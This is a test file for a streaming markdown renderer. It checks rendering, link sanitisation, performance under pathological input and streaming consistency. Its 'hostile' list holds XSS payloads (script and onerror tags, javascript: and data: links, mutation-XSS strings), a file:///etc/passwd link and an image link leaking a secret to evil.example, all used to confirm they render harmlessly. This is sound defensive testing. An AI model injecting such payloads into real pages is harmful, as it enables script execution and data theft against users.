import assert from "node:assert/strict";
import { test } from "node:test";
import type { ComponentChild, VNode } from "preact";
import { most, Stream } from "../src/markdown/stream.ts";
import { safe } from "../src/markdown/urls.ts";
import { CodeBlock } from "../src/ui/code.tsx";

// markup writes elements as markup, and fails on anything that is not allowed.
const allowed: Record<string, string[]> = {
  p: ["dir"], br: [], hr: [], em: [], strong: [], s: [], code: [], ul: ["dir"], ol: ["dir", "start"], li: [],
  blockquote: ["dir"], h3: ["dir", "class"], h4: ["dir", "class"], h5: ["dir", "class"], h6: ["dir", "class"],
  table: ["dir"], thead: [], tbody: [], tr: [], th: ["dir", "class"], td: ["dir", "class"],
  div: ["class", "tabIndex", "role", "aria-label"], span: ["class"], small: [],
  a: ["href", "title", "target", "rel", "class"],
};

function markup(c: ComponentChild): string {
  if (c === null || c === undefined || typeof c === "boolean") return "";
  if (typeof c !== "object") return String(c).replace(/&/g, "&amp;").replace(/</g, "&lt;");
  if (Array.isArray(c)) return c.map(markup).join("");
  const v = c as VNode<Record<string, unknown>>;
  if (v.type === CodeBlock) return `<pre ${v.props.lang}>${markup(v.props.text as string)}</pre>`;
  assert.equal(typeof v.type, "string", "only elements and the code block");
  const tag = v.type as string;
  const names = allowed[tag];
  assert.ok(names, `<${tag}> is not allowed`);
  let attrs = "";
  for (const [k, value] of Object.entries(v.props)) {
    if (k === "children" || value === undefined) continue;
    assert.ok(names.includes(k), `<${tag} ${k}> is not allowed`);
    assert.notEqual(typeof value, "object");
    if (k === "href") {
      assert.match(String(value), /^(https?:\/\/|mailto:)/);
      assert.match(String(v.props.rel), /noopener/);
      assert.equal(v.props.target, "_blank");
    }
    if (k === "href" || k === "start" || k === "class") attrs += ` ${k}="${value}"`;
  }
  return `<${tag}${attrs}>${markup(v.props.children as ComponentChild)}</${tag}>`;
}

const render = (text: string, complete = true): string => new Stream().update(text, complete).map((b) => markup(b.children)).join("");

test("markdown becomes the elements it means", () => {
  for (const [text, want] of [
    ["a **b** *c* ~~d~~ `e`", "<p>a <strong>b</strong> <em>c</em> <s>d</s> <code>e</code></p>"],
    ["# t\n## u\n### v", '<h3 class="md-h1">t</h3><h3 class="md-h2">u</h3><h4 class="md-h3">v</h4>'],
    ["one\ntwo", "<p>one<br></br>two</p>"],
    ["- a\n- b\n  - c", "<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>"],
    ["3. a\n4. b", '<ol start="3"><li>a</li><li>b</li></ol>'],
    ["> q", "<blockquote><p>q</p></blockquote>"],
    ["```go\nx < y\n```", "<pre go>x &lt; y\n</pre>"],
    ["```\nnot closed", "<pre >not closed</pre>"],
    ["|a|b|\n|-|-:|\n|1|2|", '<div class="table"><table><thead><tr><th>a</th><th class="right">b</th></tr></thead><tbody><tr><td>1</td><td class="right">2</td></tr></tbody></table></div>'],
    ["[x](https://a.example/y)", '<p><a href="https://a.example/y">x</a></p>'],
    ["see https://a.example/y.", '<p>see <a href="https://a.example/y">https://a.example/y</a>.</p>'],
    ["![p](https://a.example/i.png)", '<p><a class="picture" href="https://a.example/i.png">Picture: p<small>a.example</small></a></p>'],
    ["[https://b.example](https://a.example)", '<p><span class="link"><a href="https://a.example/">https://b.example</a><small>a.example</small></span></p>'],
    ["[**B.example** now](https://a.example)", '<p><span class="link"><a href="https://a.example/"><strong>B.example</strong> now</a><small>a.example</small></span></p>'],
    ["https://\u0430.example", '<p><span class="link"><a href="https://xn--80a.example/">https://\u0430.example</a><small>xn--80a.example</small></span></p>'],
    ["[A.example/x](https://a.example/x)", '<p><a href="https://a.example/x">A.example/x</a></p>'],
    ["[x][1]\n\n[1]: https://a.example", '<p><a href="https://a.example/">x</a></p>'],
  ] as const) {
    assert.equal(render(text), want, text);
  }
});

// Every sample must come out as text or as harmless elements: markup() fails on
// any other element, attribute or address.
const hostile = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<style>*{background:url(https://evil.example)}</style>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<a href='javascript:alert(1)'>x</a>",
  "<!--<img src=x onerror=alert(1)>-->",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\u0000script:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&Tab;javascript:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example)",
  "[x](/api/v1/conversations)",
  "[x](https://user:pw@evil.example)",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "![](https://evil.example/?q=secret)",
  "[x]: javascript:alert(1)\n\n[x]",
  "[a](https://ok.example 'x\" onmouseover=\"alert(1)')",
  "```\"onload=alert(1)\n<script>alert(1)</script>\n```",
  "|<img src=x onerror=alert(1)>|\n|-|\n|[x](javascript:alert(1))|",
  "1. <script>alert(1)</script>",
  "# <img src=x onerror=alert(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "\u202Egnp.exe\u202C [x](https://a.example)",
  "[click](https://a.example\" onclick=\"alert(1))",
];

test("hostile samples come out harmless, whole and in the middle of streaming", () => {
  for (const sample of hostile) {
    for (const text of [sample, `before ${sample} after`, `- ${sample}\n\n> ${sample}`]) {
      const got = render(text);
      assert.doesNotMatch(got, /<(script|img|svg|iframe|style|math|form|object|embed)/i, text);
      assert.doesNotMatch(got, /href="(?!https?:\/\/|mailto:)/i, text);
    }
    const stream = new Stream();
    for (let i = 1; i <= sample.length; i++) stream.update(sample.slice(0, i), false).forEach((b) => markup(b.children));
  }
});

test("addresses", () => {
  for (const [href, want] of [
    ["https://a.example/ü", "https://a.example/%C3%BC"],
    ["http://a.example", "http://a.example/"],
    ["mailto:a@b.example", "mailto:a@b.example"],
    ["HTTPS://A.example", "https://a.example/"],
    ["javascript:alert(1)", null], [" javascript:alert(1)", null], ["java\nscript:x", null], ["\u200bjavascript:x", null],
    ["https:alert(1)", null], ["//a.example", null], ["/x", null], ["#x", null], ["", null], ["blob:https://a.example/1", null],
    ["https://u@a.example", null], ["https://", null], ["tel:1", null], ["intent://x", null],
  ] as const) {
    assert.equal(safe(href)?.href ?? null, want, JSON.stringify(href));
  }
});

test("bombs are answered in reasonable time", () => {
  const n = 20_000;
  for (const [name, text] of Object.entries({
    stars: "*".repeat(n), pairs: "_a__".repeat(n), brackets: "[".repeat(n), links: "[a](".repeat(n), quotes: ">".repeat(n),
    ticks: Array.from({ length: 300 }, (_, i) => "`".repeat(i + 1) + "a").join(" "), lists: "1. ".repeat(n), images: "![".repeat(n),
    table: "|".repeat(n) + "\n" + "|-".repeat(n), line: "a".repeat(most), more: "a ".repeat(most), entities: "&a".repeat(n),
    nested: Array.from({ length: 500 }, (_, i) => " ".repeat(i * 2) + "- a").join("\n"),
    zalgo: "e" + "\u0301".repeat(n), bidi: "\u202e\u2066".repeat(n),
  })) {
    const begin = performance.now();
    render(text);
    const took = performance.now() - begin;
    assert.ok(took < 5000, `${name}: ${took.toFixed(0)} ms`); // no speed test: one that hangs takes minutes
  }
});

const count = (c: ComponentChild): number =>
  Array.isArray(c) ? c.reduce((n: number, x) => n + count(x), 0) : c !== null && typeof c === "object" ? 1 + count((c as VNode<Record<string, unknown>>).props.children as ComponentChild) : 0;

test("bombs stay small while they grow, and not a character is lost", () => {
  const n = 150_000;
  for (const [name, piece] of Object.entries({ emphasis: "*a* ", items: "- a\n", heads: "# a\n\n", cells: "|a|b|\n", formulas: "$x$ ", opened: "$$a\n", letters: "a", pairs: "\u{1f600}" })) {
    const text = (name === "cells" ? "|a|b|\n|-|-|\n" : "") + piece.repeat(n / piece.length);
    const s = new Stream();
    for (let i = 1000; i < text.length; i += 1000) s.update(text.slice(0, i), false);
    assert.ok(s.parsed < text.length * 30, `${name}: parsed ${s.parsed} units for a text of ${text.length}`);
    const elements = s.update(text, true).reduce((sum, b) => sum + count(b.children), 0);
    assert.ok(elements < 45_000, `${name}: ${elements} elements`);
  }
  for (const text of ["\u{1f600}".repeat(most), "a\n".repeat(most), "x".repeat(7999) + "\u{1f600}" + "y".repeat(most)]) {
    const whole = new Stream().update(text, true).map((b) => b.children.map((c) => (c as VNode<{ children: string }>).props.children).join("")).join("");
    assert.ok(whole === text, "what is shown plain is the text");
  }
});

test("what was shown plain for a while becomes markdown", () => {
  const s = new Stream();
  const line = "word ".repeat(8000);
  s.update(line, false);
  assert.match(s.update(`${line}**bold**`, false).map((b) => markup(b.children)).join(""), /<div class="plain">\*\*bold\*\*<\/div>$/);
  assert.match(s.update(`${line}**bold**`, true).map((b) => markup(b.children)).join(""), /<strong>bold<\/strong><\/p>$/);
});

const long = `# Title

A paragraph with **bold** text
and a second line.

- one
- two

  with more

\`\`\`js
let a = 1;

let b = 2;
\`\`\`

| a | b |
|---|---|
| 1 | 2 |

Setext
===

1. x
2. y

> quote
lazy

foo
\`\`\`js\`x

The end [ref].

[ref]: https://a.example/
`;

test("streaming ends as the whole text parsed at once, whatever the pieces", () => {
  const want = render(long);
  for (const size of [1, 2, 3, 7, 40]) {
    const s = new Stream();
    for (let i = size; i < long.length; i += size) s.update(long.slice(0, i), false).forEach((b) => markup(b.children));
    assert.equal(s.update(long, true).map((b) => markup(b.children)).join(""), want, `pieces of ${size}`);
  }
});

test("streaming parses the tail only and keeps what is finished", () => {
  const s = new Stream();
  let text = "";
  let first: unknown;
  for (let i = 0; i < 400; i++) {
    text += `Paragraph ${i} with **some** words in it.\n\n`;
    const blocks = s.update(text, false);
    if (i === 5) first = blocks[0];
    if (i > 5) assert.equal(blocks[0], first, "the same object: it is not rendered again");
  }
  assert.ok(s.parsed < text.length * 8, `parsed ${s.parsed} units for a text of ${text.length}`);
  const before = s.update(text, false);
  const after = s.update(text, true);
  assert.equal(after.length, before.length);
  assert.equal(after[0], before[0], "the end does not render everything again");
  assert.equal(s.update("other", false).length, 1, "another text begins anew");
});
